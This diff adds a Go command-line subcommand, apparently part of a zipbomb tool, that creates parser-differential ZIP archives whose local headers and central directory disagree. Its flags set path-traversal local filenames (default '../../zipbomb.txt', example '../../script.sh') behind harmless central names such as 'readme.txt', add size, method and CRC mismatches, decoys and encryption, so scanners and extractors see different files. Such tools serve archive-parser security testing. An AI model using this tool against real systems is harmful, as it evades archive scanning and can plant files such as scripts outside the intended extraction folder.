@@ -0,0 +1,137 @@
+package cmd
+
+import (
+	"fmt"
+	"os"
+	"time"
+
+	"github.com/hupe1980/zipbomb/pkg/zipbomb"
+	"github.com/spf13/cobra"
+	"github.com/vbauerster/mpb/v8"
+)
+
+type differentialOptions struct {
+	archive          archiveOptions
+	verify           bool
+	decoys           []string
+	kernel           kernelOptions
+	compressionLevel int
+	method           string
+	localName        string
+	centralName      string
+	sizeMismatch     bool
+	methodMismatch   bool
+	crcMismatch      bool
+	duplicate        string
+	encryption       encryptionOptions
+}
+
+func newDifferentialCmd(rootOpts *rootOptions) *cobra.Command {
+	opts := &differentialOptions{}
+	cmd := &cobra.Command{
+		Use:   "differential",
+		Short: "Create a parser-differential archive",
+		Long:  "Create an archive whose local headers and central directory disagree, so that streaming readers and directory readers see different archives",
+		Example: `- zipbomb differential --local-name "../../script.sh" --central-name "readme.txt"
+- zipbomb differential --size-mismatch --crc-mismatch
+- zipbomb differential --duplicate "harmless"`,
+		SilenceUsage:  true,
+		SilenceErrors: true,
+		RunE: func(cmd *cobra.Command, args []string) error {
+			method, err := zipbomb.ParseMethod(opts.method)
+			if err != nil {
+				return err
+			}
+
+			encryption, err := opts.encryption.options()
+			if err != nil {
+				return err
+			}
+
+			archiveOpts, err := opts.archive.options()
+			if err != nil {
+				return err
+			}
+
+			kb, err := opts.kernel.kernel()
+			if err != nil {
+				return err
+			}
+
+			creatingStart := time.Now()
+
+			p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
+
+			archive, err := createOutput(rootOpts.output, opts.verify)
+			if err != nil {
+				return err
+			}
+
+			defer archive.Close()
+
+			bar := newProgressBar(p, fmt.Sprintf("[i] Creating %s", archive.Name()), 1)
+
+			zbomb, err := zipbomb.New(archive, archiveOpts)
+			if err != nil {
+				return err
+			}
+
+			if err = addDecoys(zbomb, opts.decoys); err != nil {
+				return err
+			}
+
+			if err = zbomb.AddDifferential(kb, opts.localName, func(o *zipbomb.DifferentialOptions) {
+				o.CompressionLevel = opts.compressionLevel
+				o.Method = method
+				o.CentralName = opts.centralName
+				o.SizeMismatch = opts.sizeMismatch
+				o.MethodMismatch = opts.methodMismatch
+				o.CRCMismatch = opts.crcMismatch
+				o.EncryptionOptions = encryption
+
+				if opts.duplicate != "" {
+					o.Duplicate = []byte(opts.duplicate)
+				}
+			}); err != nil {
+				return err
+			}
+
+			bar.Increment()
+
+			if err = zbomb.Close(); err != nil {
+				return err
+			}
+
+			p.Wait()
+
+			creatingEnd := time.Now()
+
+			rep := newReport(cmd, archive.Name(), creatingEnd.Sub(creatingStart), zbomb.Report())
+
+			if opts.verify {
+				if err = verifyArchive(rep, archive.Path(), true); err != nil {
+					return err
+				}
+			}
+
+			return printReport(rootOpts, rep)
+		},
+	}
+
+	opts.archive.addFlags(cmd.Flags())
+
+	cmd.Flags().BoolVarP(&opts.verify, "verify", "", false, "verify zip archive (reads the central directory)")
+	cmd.Flags().StringSliceVarP(&opts.decoys, "decoy", "", nil, "ordinary file added in front of the bomb")
+	opts.kernel.addFlags(cmd.Flags(), []byte{'B'}, 1024*1024)
+	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9], ignored for repeated --kernel-bytes unless 0 or -2")
+	cmd.Flags().StringVarP(&opts.method, "method", "M", "deflate", "compression method (deflate|bzip2|store)")
+	cmd.Flags().StringVarP(&opts.localName, "local-name", "", "../../zipbomb.txt", "filename in the local header")
+	cmd.Flags().StringVarP(&opts.centralName, "central-name", "", "readme.txt", "filename in the central directory")
+	cmd.Flags().BoolVarP(&opts.sizeMismatch, "size-mismatch", "", false, "central directory claims uncompressed size = compressed size")
+	cmd.Flags().BoolVarP(&opts.methodMismatch, "method-mismatch", "", false, "central directory claims a different compression method")
+	cmd.Flags().BoolVarP(&opts.crcMismatch, "crc-mismatch", "", false, "central directory carries an inverted crc-32")
+	cmd.Flags().StringVarP(&opts.duplicate, "duplicate", "", "", "content of a decoy entry with the same central directory name")
+	opts.encryption.addFlags(cmd.Flags())
+
+	return cmd
+}